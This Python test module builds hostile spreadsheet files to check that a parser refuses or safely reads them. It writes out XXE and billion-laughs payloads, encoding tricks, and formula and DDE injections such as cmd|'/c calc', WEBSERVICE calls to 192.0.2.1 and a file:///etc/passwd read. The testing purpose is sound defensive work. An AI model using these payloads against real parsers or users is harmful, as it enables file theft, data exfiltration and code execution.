"""Markup that asks its reader to fetch, to unfold or to believe something."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

from tests.workbooks import hostile, plain
from tests.workbooks.cases import Case, Read, either, read, refused
from tests.workbooks.hostile import MAIN, PACKAGE, REL, ROWS, sheet_xml, write_parts

TWO: Read = [("TR-0001", 5000, "paid"), ("TR-0002", 7550, "paid")]
"""What `hostile.ROWS` come to."""
_FETCH = '<!DOCTYPE x [<!ENTITY e SYSTEM "http://192.0.2.1/e">]>'
_PARAMETER = '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://192.0.2.1/p.dtd"> %p;]>'
_LAUGHS = "<!DOCTYPE x [" + "".join(f'<!ENTITY e{n + 1} "{f"&e{n};" * 10}">' for n in range(9)) + '<!ENTITY e0 "ha">]>'
_DOCTYPES = {"fetches": _FETCH, "fetches its own rules": _PARAMETER, "laughs a billion times": _LAUGHS, "names no entity": "<!DOCTYPE x>"}
_PARTS = {
    "[Content_Types].xml": hostile.CONTENT_TYPES,
    "_rels/.rels": hostile.RELS,
    "xl/workbook.xml": hostile.BOOK,
    "xl/_rels/workbook.xml.rels": hostile.BOOK_RELS,
}


def cases() -> Iterator[Case]:
    """Every trick, in every part and encoding that could play it."""
    for name, doctype in _DOCTYPES.items():
        yield refused(
            f"a sheet that {name}",
            ".xlsx",
            lambda path, d=doctype: write_parts(path, sheet_xml(ROWS.replace("TR-0001", "&e9;"), doctype=d)),
        )
        yield refused(f"content that {name}", ".ods", lambda path, d=doctype: plain.ods(path, doctype=d))
        yield refused(f"XML of 2003 that {name}", ".xls", lambda path, d=doctype: plain.xml_2003(path, doctype=d))
        for part, text in _PARTS.items():
            inside = text if text.startswith("<?xml") else '<?xml version="1.0"?>' + text
            inside = inside.replace("?>", "?>" + doctype, 1)
            yield refused(f"{part} that {name}", ".xlsx", lambda path, p=part, t=inside: write_parts(path, sheet_xml(), **{p: t}))
    for encoding in ("utf-16", "utf-16-le", "utf-16-be", "utf-32"):
        tricked = sheet_xml(ROWS.replace("TR-0001", "&e;"), doctype=_FETCH).replace('"1.0"', f'"1.0" encoding="{encoding}"', 1)
        yield refused(f"a sheet in {encoding} that fetches", ".xlsx", lambda path, t=tricked, e=encoding: write_parts(path, t.encode(e)))
    yield refused("a book in UTF-16 under another name", ".xlsx", _book_elsewhere)
    yield either("a sheet said to be in UTF-7", ".xlsx", _said_to_be("UTF-7", sheet_xml(doctype="+ADwAIQ-DOCTYPE x+AD4-")))
    yield refused(
        "a declaration cut by a block's end", ".xlsx", lambda path: write_parts(path, sheet_xml(" " * (2**20 - 200) + _FETCH + ROWS))
    )
    for name, formula in _FORMULAS.items():
        yield read(f"a cell that would {name}", ".xlsx", lambda path, f=formula: write_parts(path, sheet_xml(_with_formula(f))), TWO)
    command = "=cmd|'/c calc'!A1"
    yield read(
        "text that looks like a command",
        ".xlsx",
        lambda path: write_parts(path, sheet_xml(ROWS.replace("TR-0001", command))),
        [(command, 5000, "paid"), TWO[1]],
    )
    yield read("outside links and data connections", ".xlsx", _outward, TWO)
    yield read("a table of a DDE link", ".ods", _dde)


_FORMULAS = {
    "run a program": "cmd|'/c calc'!A1",
    "open a page": 'HYPERLINK("http://192.0.2.1/?"&amp;A2,"50")',
    "call a service": 'WEBSERVICE("http://192.0.2.1/")',
    "read another book": "'http://192.0.2.1/[b.xlsx]S'!A1",
    "read a file": "'file:///etc/[passwd]S'!A1",
}


def _with_formula(formula: str) -> str:
    return ROWS.replace("<v>50</v>", f"<f>{formula}</f><v>50</v>")


def _said_to_be(encoding: str, sheet: str):
    return lambda path: write_parts(path, sheet.replace('"1.0"', f'"1.0" encoding="{encoding}"', 1))


def _book_elsewhere(path: Path) -> Path:
    book = ('<?xml version="1.0" encoding="utf-16"?>' + _LAUGHS + hostile.BOOK.replace("Payouts", "&e9;")).encode("utf-16")
    moved = {"xl/book.data": book, "xl/_rels/book.data.rels": hostile.BOOK_RELS}
    return write_parts(path, sheet_xml(), **{"_rels/.rels": hostile.RELS.replace("workbook.xml", "book.data")}, **moved)


def _outward(path: Path) -> Path:
    """External links, a data connection, a query table and an embedded object: none may be followed."""
    link = f'<externalLink {MAIN}><externalBook xmlns:r="{REL}" r:id="rId1"/></externalLink>'
    out = (
        f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="rId1" Type="{REL}/externalLinkPath" '
        'Target="http://192.0.2.1/b.xlsx" TargetMode="External"/></Relationships>'
    )
    connection = (
        f'<connections {MAIN}><connection id="1" type="4" refreshOnLoad="1"><webPr url="http://192.0.2.1/"/></connection></connections>'
    )
    sheet_out = out.replace("externalLinkPath", "hyperlink")
    return write_parts(
        path, sheet_xml(), **{
            "xl/externalLinks/externalLink1.xml": link, "xl/externalLinks/_rels/externalLink1.xml.rels": out, "xl/connections.xml": connection,
            "xl/worksheets/_rels/sheet1.xml.rels": sheet_out, "xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" * 100,
            "customXml/item1.xml": '<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="http://192.0.2.1/"/></x>',
        },
    )  # fmt: skip


def _dde(path: Path) -> Path:
    source = '<office:dde-source office:dde-application="soffice" office:dde-topic="http://192.0.2.1/x.ods" office:dde-item="A1"/>'
    table = '<table:table><table:table-row><table:table-cell office:value-type="float" office:value="1"/></table:table-row></table:table>'
    return plain.ods(path, more=f"<table:dde-links><table:dde-link>{source}{table}</table:dde-link></table:dde-links>")
